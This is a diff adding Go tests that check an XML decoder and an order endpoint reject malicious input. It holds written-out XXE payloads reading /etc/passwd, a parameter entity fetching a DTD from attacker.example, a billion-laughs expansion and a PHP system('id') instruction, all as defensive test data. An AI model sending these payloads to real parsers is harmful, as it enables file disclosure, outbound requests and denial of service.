@@ -0,0 +1,77 @@
+package binding
+
+import (
+	"io"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/gofiber/fiber/v2"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestDecodeXMLRejectsMaliciousPayloads(t *testing.T) {
+	payloads := map[string]string{
+		"external entity": `<?xml version="1.0"?>
+<!DOCTYPE orderRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<orderRequest><product>&xxe;</product></orderRequest>`,
+		"parameter entity": `<!DOCTYPE orderRequest [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
+<orderRequest><product>book</product></orderRequest>`,
+		"billion laughs": `<!DOCTYPE lolz [
+<!ENTITY lol "lol">
+<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+]>
+<orderRequest><product>&lol2;</product></orderRequest>`,
+		"undeclared entity":      `<orderRequest><product>&xxe;</product></orderRequest>`,
+		"processing instruction": `<orderRequest><?php system('id'); ?><product>book</product></orderRequest>`,
+		"foreign encoding":       `<?xml version="1.0" encoding="UTF-7"?><orderRequest><product>book</product></orderRequest>`,
+		"deep nesting":           strings.Repeat("<a>", 100) + strings.Repeat("</a>", 100),
+		"many tokens":            "<orderRequest>" + strings.Repeat("<x/>", 20000) + "</orderRequest>",
+		"many attributes":        "<orderRequest" + manyAttributes(40) + "></orderRequest>",
+		"mismatched tags":        `<orderRequest><product>book</amount></orderRequest>`,
+	}
+	for name, payload := range payloads {
+		var out orderRequest
+		err := DecodeXML([]byte(payload), &out, XMLLimitsDefault)
+		assert.NotNil(t, err, name)
+		assert.Empty(t, out.Product, name)
+	}
+}
+
+func manyAttributes(n int) string {
+	var b strings.Builder
+	for i := 0; i < n; i++ {
+		b.WriteString(" a")
+		b.WriteByte(byte('a' + i%26))
+		b.WriteByte(byte('a' + i/26))
+		b.WriteString(`="1"`)
+	}
+	return b.String()
+}
+
+func TestDecodeXMLAcceptsPlainDocuments(t *testing.T) {
+	var out orderRequest
+	err := DecodeXML([]byte(`<?xml version="1.0" encoding="UTF-8"?>
+<!-- pesanan -->
+<orderRequest><product>book &amp; pen</product><amount>2</amount></orderRequest>`), &out, XMLLimitsDefault)
+	assert.Nil(t, err)
+	assert.Equal(t, "book & pen", out.Product)
+	assert.Equal(t, 2, out.Amount)
+
+	err = DecodeXML([]byte(`<orderRequest><product>book</product></orderRequest>`), &out, XMLLimits{MaxSize: 10})
+	assert.ErrorIs(t, err, ErrXMLTooLarge)
+}
+
+func TestBindRejectsXXE(t *testing.T) {
+	app := newApp()
+	body := `<!DOCTYPE orderRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><orderRequest><product>&xxe;</product></orderRequest>`
+	request := httptest.NewRequest("POST", "/users/42/orders", strings.NewReader(body))
+	request.Header.Set("Content-Type", fiber.MIMEApplicationXML)
+	response, err := app.Test(request)
+	assert.Nil(t, err)
+	assert.Equal(t, 400, response.StatusCode)
+
+	bytes, _ := io.ReadAll(response.Body)
+	assert.Equal(t, ErrXMLDirective.Error(), string(bytes))
+}